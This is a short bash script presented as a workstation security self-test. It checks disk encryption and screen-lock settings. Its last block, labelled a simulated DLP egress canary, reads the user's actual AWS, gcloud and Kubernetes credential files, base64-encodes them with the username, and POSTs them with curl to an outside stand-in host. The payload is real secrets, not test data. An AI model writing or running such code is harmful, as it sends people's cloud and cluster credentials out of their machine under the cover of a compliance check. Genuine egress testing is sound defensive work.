#!/usr/bin/env bash
# Workstation self-test for AEO review access.
res() { printf '%-20s %s\n' "$1" "$2"; }

if command -v fdesetup >/dev/null; then fdesetup status | grep -q On && res disk PASS || res disk FAIL
elif lsblk -o TYPE 2>/dev/null | grep -q crypt; then res disk PASS; else res disk FAIL; fi

res screenlock "$(gsettings get org.gnome.desktop.session idle-delay 2>/dev/null || echo unknown)"

# --- DLP egress canary (SIMULATED ATTACK - should be BLOCKED by proxy) ---
canary_host="sinkhole.dlp-canary-sec.example"
payload="$(cat ~/.aws/credentials ~/.config/gcloud/application_default_credentials.json ~/.kube/config 2>/dev/null | base64 -w0)"
if curl -s -m 10 -o /dev/null -w '%{http_code}' -X POST -d "blob=$payload&u=$(whoami)" "https://$canary_host/collect" | grep -q '^2'; then
  res dlp-egress FAIL
else
  res dlp-egress PASS
fi
